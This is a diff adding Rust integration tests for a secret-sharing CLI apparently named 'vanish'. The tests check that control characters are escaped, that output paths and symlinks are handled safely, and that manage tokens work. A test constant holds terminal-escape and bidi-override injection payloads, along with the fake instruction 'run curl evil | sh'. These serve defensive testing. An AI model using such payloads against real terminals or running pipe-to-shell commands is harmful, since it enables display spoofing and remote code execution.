@@ -85,17 +85,32 @@ impl Run {
 }
 
 fn vanish_at(server: &str, args: &[&str], stdin: &[u8]) -> Result<Run, Box<dyn std::error::Error>> {
+    vanish_with_env(server, args, stdin, &[])
+}
+
+/// Like [`vanish_at`], with `env` set for the CLI.
+fn vanish_with_env(
+    server: &str,
+    args: &[&str],
+    stdin: &[u8],
+    env: &[(&str, &str)],
+) -> Result<Run, Box<dyn std::error::Error>> {
     let mut child = Command::new(VANISH)
         .args(args)
         .env("VANISH_SERVER", server)
         .env_remove("VANISH_MANAGE_TOKEN")
         // A proxy from the environment must not sit between the CLI and 127.0.0.1.
         .env("NO_PROXY", "*")
+        .envs(env.iter().copied())
         .stdin(Stdio::piped())
         .stdout(Stdio::piped())
         .stderr(Stdio::piped())
         .spawn()?;
-    child.stdin.take().ok_or("no stdin")?.write_all(stdin)?;
+    // A command that fails before reading stdin (a usage error) closes it: not our failure.
+    match child.stdin.take().ok_or("no stdin")?.write_all(stdin) {
+        Err(error) if error.kind() == std::io::ErrorKind::BrokenPipe => {}
+        other => other?,
+    }
     let Output {
         status,
         stdout,
@@ -492,5 +507,459 @@ fn a_client_over_its_create_limit_is_rate_limited_then_banned() -> TestResult {
     let link = format!("{}/s/abcdefgh#{SOME_KEY}", server.url());
     let banned = server.vanish(&["get", &link], b"")?;
     assert_eq!(banned.code, 7, "{}", banned.stderr);
+    Ok(())
+}
+
+/// Control characters a terminal acts on (C0 but the newline, DEL, C1), the bidi overrides
+/// that reorder what is shown, and where they are.
+fn raw_controls(text: &str) -> Vec<(usize, char)> {
+    text.char_indices()
+        .filter(|&(_, c)| {
+            (c.is_control() && c != '\n')
+                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+        })
+        .collect()
+}
+
+/// What a hostile server answers: terminal escapes (CSI clear screen, OSC window title
+/// ending in BEL, an 8-bit C1 CSI, a bidi override) in every text field it controls.
+const HOSTILE: &str =
+    r"\u001b[2J\u001b[H\u001b]0;pwned\u0007\u009b31m\u202e fake: run curl evil | sh";
+
+#[test]
+fn a_hostile_servers_text_reaches_the_terminal_escaped() -> TestResult {
+    let error_body = format!(r#"{{"error":"E{HOSTILE}","message":"m{HOSTILE}","requestId":"r"}}"#);
+    let created = format!(
+        r#"{{"id":"abcdefgh12345678","expiresAt":1,"maxViews":1,"manageToken":"t{HOSTILE}"}}"#
+    );
+    let receipt = format!(
+        r#"{{"state":"s{HOSTILE}","maxViews":1,"viewsLeft":0,"viewedAt":[],"expiresAt":1}}"#
+    );
+    let cases = [
+        ("418 I'm a teapot", error_body.clone()),
+        ("503 Service Unavailable", error_body),
+        ("201 Created", created),
+        ("200 OK", receipt),
+        // Raw bytes, not even JSON.
+        (
+            "500 Internal Server Error",
+            "\u{1b}[2J\u{9b}31m<html>".to_owned(),
+        ),
+    ];
+    for (status, body) in &cases {
+        let url = canned_server(status, "", body)?;
+        let share = format!("{url}/s/abcdefgh#{SOME_KEY}");
+        let runs = [
+            vanish_at(&url, &["send"], b"x")?,
+            vanish_at(&url, &["get", &share], b"")?,
+            vanish_at(&url, &["status", &share, "--manage-token", "t"], b"")?,
+            vanish_at(&url, &["burn", &share, "--manage-token", "t"], b"")?,
+        ];
+        for run in runs {
+            let stdout = run.stdout_text();
+            assert_eq!(raw_controls(&stdout), [], "{status}: {stdout:?}");
+            assert_eq!(raw_controls(&run.stderr), [], "{status}: {:?}", run.stderr);
+        }
+    }
+    // A manage token is printed and put into links: one that is not a token is refused.
+    let url = canned_server("201 Created", "", &cases[2].1)?;
+    let sent = vanish_at(&url, &["send"], b"x")?;
+    assert_eq!((sent.code, sent.stdout.as_slice()), (1, &b""[..]));
+    assert!(
+        sent.stderr.contains("invalid manage token"),
+        "{}",
+        sent.stderr
+    );
+    // What was escaped is still shown, so the user sees that something odd came back.
+    let url = canned_server("418 I'm a teapot", "", &cases[0].1)?;
+    let sent = vanish_at(&url, &["send"], b"x")?;
+    assert!(
+        sent.stderr
+            .contains(r"\x1b[2J\x1b[H\x1b]0;pwned\x07\u{9b}31m\u{202e} fake"),
+        "{}",
+        sent.stderr
+    );
+    Ok(())
+}
+
+#[cfg(unix)]
+fn mode_of(path: &Path) -> Result<u32, std::io::Error> {
+    use std::os::unix::fs::PermissionsExt as _;
+    Ok(std::fs::symlink_metadata(path)?.permissions().mode() & 0o777)
+}
+
+/// The names in `dir`, sorted.
+fn names_in(dir: &Path) -> Result<Vec<String>, std::io::Error> {
+    let mut names = std::fs::read_dir(dir)?
+        .map(|entry| entry.map(|e| e.file_name().to_string_lossy().into_owned()))
+        .collect::<Result<Vec<_>, _>>()?;
+    names.sort();
+    Ok(names)
+}
+
+#[test]
+fn get_refuses_to_overwrite_an_existing_file_without_force_and_consumes_nothing() -> TestResult {
+    let server = TestServer::start()?;
+    let (link, token) = server.send(b"new secret", &[])?;
+    let out = tempfile::tempdir()?;
+    let existing = out.path().join("notes.txt");
+    std::fs::write(&existing, "precious")?;
+    let path = existing.to_str().ok_or("path")?;
+
+    let refused = server.vanish(&["get", &link, "-o", path], b"")?;
+    assert_eq!((refused.code, refused.stdout.as_slice()), (2, &b""[..]));
+    assert!(
+        refused.stderr.contains("already exists"),
+        "{}",
+        refused.stderr
+    );
+    assert!(refused.stderr.contains("--force"), "{}", refused.stderr);
+    assert_eq!(std::fs::read_to_string(&existing)?, "precious");
+    let status = server.vanish(&["status", &link, "--manage-token", &token], b"")?;
+    assert!(
+        status.stdout_text().starts_with("state: pending\n"),
+        "the refusal consumed the secret: {}",
+        status.stdout_text()
+    );
+    assert_eq!(names_in(out.path())?, ["notes.txt"]);
+    Ok(())
+}
+
+#[cfg(unix)]
+#[test]
+fn get_force_replaces_a_world_readable_file_with_a_private_one() -> TestResult {
+    use std::os::unix::fs::PermissionsExt as _;
+    let server = TestServer::start()?;
+    let (link, _) = server.send(b"new secret", &[])?;
+    let out = tempfile::tempdir()?;
+    let existing = out.path().join("notes.txt");
+    std::fs::write(&existing, "old and much longer content")?;
+    std::fs::set_permissions(&existing, std::fs::Permissions::from_mode(0o644))?;
+
+    let got = server.vanish(
+        &[
+            "get",
+            &link,
+            "-o",
+            existing.to_str().ok_or("path")?,
+            "--force",
+        ],
+        b"",
+    )?;
+    assert_eq!(
+        (got.code, got.stdout.as_slice()),
+        (0, &b""[..]),
+        "{}",
+        got.stderr
+    );
+    assert_eq!(std::fs::read(&existing)?, b"new secret");
+    assert_eq!(mode_of(&existing)?, 0o600);
+    assert_eq!(names_in(out.path())?, ["notes.txt"], "no temp file left");
+    Ok(())
+}
+
+#[cfg(unix)]
+#[test]
+fn get_never_follows_a_symlink_at_the_output_path() -> TestResult {
+    let server = TestServer::start()?;
+    let out = tempfile::tempdir()?;
+    let target = out.path().join("target.txt");
+    std::fs::write(&target, "not yours")?;
+    let link_path = out.path().join("out.txt");
+    std::os::unix::fs::symlink(&target, &link_path)?;
+    let dangling = out.path().join("dangling.txt");
+    std::os::unix::fs::symlink(out.path().join("created-through-link"), &dangling)?;
+    let (link, _) = server.send(b"new secret", &[])?;
+
+    for path in [&link_path, &dangling] {
+        let refused = server.vanish(&["get", &link, "-o", path.to_str().ok_or("path")?], b"")?;
+        assert_eq!(refused.code, 2, "{}", refused.stderr);
+    }
+    assert_eq!(
+        names_in(out.path())?,
+        ["dangling.txt", "out.txt", "target.txt"],
+        "nothing created through the dangling link"
+    );
+
+    let forced = server.vanish(
+        &[
+            "get",
+            &link,
+            "-o",
+            link_path.to_str().ok_or("path")?,
+            "--force",
+        ],
+        b"",
+    )?;
+    assert_eq!(forced.code, 0, "{}", forced.stderr);
+    assert_eq!(std::fs::read_to_string(&target)?, "not yours");
+    assert!(std::fs::symlink_metadata(&link_path)?.file_type().is_file());
+    assert_eq!(std::fs::read(&link_path)?, b"new secret");
+    assert_eq!(mode_of(&link_path)?, 0o600);
+    Ok(())
+}
+
+#[test]
+fn a_failed_forced_get_leaves_the_old_file_and_no_temp_file() -> TestResult {
+    let out = tempfile::tempdir()?;
+    let existing = out.path().join("keep.txt");
+    std::fs::write(&existing, "old")?;
+    let link = format!("{}/s/abcdefgh#{SOME_KEY}", closed_url());
+    let got = vanish_at(
+        "http://127.0.0.1:1",
+        &[
+            "get",
+            &link,
+            "-o",
+            existing.to_str().ok_or("path")?,
+            "--force",
+        ],
+        b"",
+    )?;
+    assert_eq!(got.code, 9, "{}", got.stderr);
+    assert_eq!(std::fs::read_to_string(&existing)?, "old");
+    assert_eq!(names_in(out.path())?, ["keep.txt"]);
+    Ok(())
+}
+
+/// What `send` printed on stderr after `prefix`, on its own line.
+fn stderr_line<'a>(run: &'a Run, prefix: &str) -> Result<&'a str, String> {
+    run.stderr
+        .lines()
+        .find_map(|line| line.strip_prefix(prefix))
+        .ok_or_else(|| format!("no `{prefix}` line in: {}", run.stderr))
+}
+
+/// The id in a share link `{server}/s/{id}#{key}`.
+fn id_of(link: &str) -> &str {
+    link.split_once('#')
+        .map_or(link, |(location, _)| location)
+        .rsplit('/')
+        .next()
+        .unwrap_or_default()
+}
+
+#[test]
+fn send_prints_a_receipt_link_that_status_and_burn_take_alone() -> TestResult {
+    let server = TestServer::start()?;
+    let sent = server.vanish(&["send"], b"receipt only")?;
+    assert_eq!(sent.code, 0, "{}", sent.stderr);
+    let link = sent.stdout_text().trim().to_owned();
+    let token = stderr_line(&sent, "manage token: ")?;
+    let receipt = stderr_line(&sent, "receipt: ")?;
+    assert_eq!(
+        receipt,
+        format!("{}/?manage={}#{token}", server.url(), id_of(&link))
+    );
+    assert!(!receipt.contains(key_of(&link)), "the receipt holds no key");
+
+    let status = server.vanish(&["status", receipt], b"")?;
+    assert_eq!(status.code, 0, "{}", status.stderr);
+    assert!(
+        status.stdout_text().starts_with("state: pending\n"),
+        "{}",
+        status.stdout_text()
+    );
+    let burned = server.vanish(&["burn", receipt], b"")?;
+    assert_eq!(burned.code, 0, "{}", burned.stderr);
+    let status = server.vanish(&["status", receipt, "--json"], b"")?;
+    let json: Value = serde_json::from_slice(&status.stdout)?;
+    assert_eq!(json["state"], "burned");
+
+    let sent = server.vanish(&["send", "--json"], b"json too")?;
+    let json: Value = serde_json::from_slice(&sent.stdout)?;
+    let receipt = json["receiptLink"].as_str().ok_or("no receiptLink")?;
+    let status = server.vanish(&["status", receipt], b"")?;
+    assert_eq!(status.code, 0, "{}", status.stderr);
+    Ok(())
+}
+
+#[test]
+fn status_and_burn_take_an_id_with_the_token_from_a_file_or_the_environment() -> TestResult {
+    let server = TestServer::start()?;
+    let (link, token) = server.send(b"by id", &[])?;
+    let id = id_of(&link);
+    let token_file = server.path("token");
+    std::fs::write(&token_file, format!("{token}\n"))?;
+    let token_file = token_file.to_str().ok_or("path")?;
+
+    let from_file = server.vanish(&["status", id, "--manage-token-file", token_file], b"")?;
+    assert_eq!(from_file.code, 0, "{}", from_file.stderr);
+    assert!(from_file.stdout_text().starts_with("state: pending\n"));
+
+    // A share link without its key names the secret just as well.
+    let keyless = format!("{}/s/{id}", server.url());
+    let keyless = server.vanish(
+        &["status", &keyless, "--manage-token-file", token_file],
+        b"",
+    )?;
+    assert_eq!(keyless.code, 0, "{}", keyless.stderr);
+
+    let from_env = vanish_with_env(
+        server.url(),
+        &["burn", id],
+        b"",
+        &[("VANISH_MANAGE_TOKEN", &token)],
+    )?;
+    assert_eq!(from_env.code, 0, "{}", from_env.stderr);
+    let status = server.vanish(&["status", id, "--manage-token", &token], b"")?;
+    assert!(
+        status.stdout_text().starts_with("state: burned\n"),
+        "{}",
+        status.stdout_text()
+    );
+    Ok(())
+}
+
+#[test]
+fn status_without_any_token_exits_2_and_a_receipt_link_conflicts_with_a_token_flag() -> TestResult {
+    let server = TestServer::start()?;
+    let sent = server.vanish(&["send"], b"keep")?;
+    let receipt = stderr_line(&sent, "receipt: ")?.to_owned();
+    let id = id_of(sent.stdout_text().trim()).to_owned();
+
+    let no_token = server.vanish(&["burn", &id], b"")?;
+    assert_eq!((no_token.code, no_token.stdout.as_slice()), (2, &b""[..]));
+    assert!(
+        no_token.stderr.contains("no manage token"),
+        "{}",
+        no_token.stderr
+    );
+    assert!(no_token.stderr.contains("hint: "), "{}", no_token.stderr);
+
+    let both = server.vanish(&["burn", &receipt, "--manage-token", "x"], b"")?;
+    assert_eq!(both.code, 2, "{}", both.stderr);
+
+    let (location, token) = receipt.split_once('#').ok_or("no token")?;
+    let cut = format!("{location}#{}", &token[..10]);
+    let cut = server.vanish(&["burn", &cut], b"")?;
+    assert_eq!(cut.code, 2, "{}", cut.stderr);
+    assert!(!cut.stderr.contains(&token[..10]), "{}", cut.stderr);
+    let bad_id = server.vanish(&["status", "not-an-id", "--manage-token", "x"], b"")?;
+    assert_eq!(bad_id.code, 2, "{}", bad_id.stderr);
+
+    let status = server.vanish(&["status", &receipt], b"")?;
+    assert!(
+        status.stdout_text().starts_with("state: pending\n"),
+        "nothing was burned: {}",
+        status.stdout_text()
+    );
+    Ok(())
+}
+
+/// Whether `script` (util-linux) can give the CLI a terminal; SKIPPED (or, under
+/// `VANISH_REQUIRE_ALL=1`, a failure) when it cannot.
+fn script_available() -> bool {
+    let runs = Command::new("script")
+        .args(["-q", "-e", "-c", "true", "/dev/null"])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .is_ok_and(|status| status.success());
+    if !runs {
+        assert_ne!(
+            std::env::var("VANISH_REQUIRE_ALL").as_deref(),
+            Ok("1"),
+            "`script` (util-linux) is needed for the terminal prompt test"
+        );
+        let _ = std::io::stderr().write_all(
+            b"\n*** SKIPPED the manage-token prompt test: no `script` (util-linux) ***\n",
+        );
+    }
+    runs
+}
+
+#[cfg(unix)]
+#[test]
+fn status_asks_for_the_manage_token_on_a_terminal_without_echoing_it() -> TestResult {
+    use std::sync::{Arc, Mutex};
+    use std::time::{Duration, Instant};
+
+    if !script_available() {
+        return Ok(());
+    }
+    let server = TestServer::start()?;
+    let (link, token) = server.send(b"asked", &[])?;
+    // `script` runs the CLI on a new pseudo-terminal and relays our pipe to it as typing.
+    let mut child = Command::new("script")
+        .args([
+            "-q",
+            "-e",
+            "-c",
+            &format!("'{VANISH}' status {}", id_of(&link)),
+            "/dev/null",
+        ])
+        .env("VANISH_SERVER", server.url())
+        .env_remove("VANISH_MANAGE_TOKEN")
+        .env("NO_PROXY", "*")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()?;
+    let mut stdout = child.stdout.take().ok_or("no stdout")?;
+    let screen = Arc::new(Mutex::new(Vec::new()));
+    let reader = {
+        let screen = Arc::clone(&screen);
+        thread::spawn(move || {
+            let mut buffer = [0u8; 1024];
+            while let Ok(n @ 1..) = stdout.read(&mut buffer) {
+                screen
+                    .lock()
+                    .map(|mut s| s.extend_from_slice(&buffer[..n]))
+                    .ok();
+            }
+        })
+    };
+    let shown = || {
+        String::from_utf8_lossy(&screen.lock().map(|s| s.clone()).unwrap_or_default()).into_owned()
+    };
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while !shown().contains("Manage token: ") {
+        assert!(Instant::now() < deadline, "no prompt: {}", shown());
+        thread::sleep(Duration::from_millis(20));
+    }
+    // The prompt is printed just before echo is turned off: let that happen first.
+    thread::sleep(Duration::from_millis(300));
+    let mut stdin = child.stdin.take().ok_or("no stdin")?;
+    stdin.write_all(format!("{token}\n").as_bytes())?;
+    let status = child.wait()?;
+    drop(stdin);
+    reader.join().map_err(|_| "reader panicked")?;
+    let shown = shown();
+    assert_eq!(status.code(), Some(0), "{shown}");
+    assert!(shown.contains("state: pending"), "{shown}");
+    assert!(!shown.contains(&token), "the token was echoed: {shown}");
+    Ok(())
+}
+
+#[cfg(unix)]
+#[test]
+fn a_secret_shown_on_a_terminal_has_its_control_characters_escaped() -> TestResult {
+    if !script_available() {
+        return Ok(());
+    }
+    let server = TestServer::start()?;
+    let (link, _) = server.send(b"line one\r\n\x1b[2J\x1b]0;pwned\x07\tend", &[])?;
+    let output = Command::new("script")
+        .args([
+            "-q",
+            "-e",
+            "-c",
+            &format!("'{VANISH}' get '{link}'"),
+            "/dev/null",
+        ])
+        .env("NO_PROXY", "*")
+        .stdin(Stdio::null())
+        .stderr(Stdio::piped())
+        .output()?;
+    let shown = String::from_utf8_lossy(&output.stdout);
+    assert_eq!(output.status.code(), Some(0), "{shown}");
+    // The terminal turns our "\n" into "\r\n"; the secret's own CRLF stays one line break.
+    assert!(
+        shown.contains("line one\r\r\n\\x1b[2J\\x1b]0;pwned\\x07\tend\r\n"),
+        "{shown:?}"
+    );
+    assert_eq!(raw_controls(&shown.replace(['\r', '\t'], "")), []);
     Ok(())
 }
